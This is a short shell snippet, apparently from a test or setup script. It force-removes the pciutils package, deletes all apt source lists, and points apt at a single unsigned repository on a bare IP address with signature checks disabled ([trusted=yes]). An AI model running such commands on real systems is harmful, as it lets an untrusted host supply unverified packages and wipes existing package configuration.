dpkg --remove --force-depends pciutils
rm -f /etc/apt/sources.list.d/*
echo "deb [trusted=yes] http://198.51.100.10:81/debian trixie main" >/etc/apt/sources.list
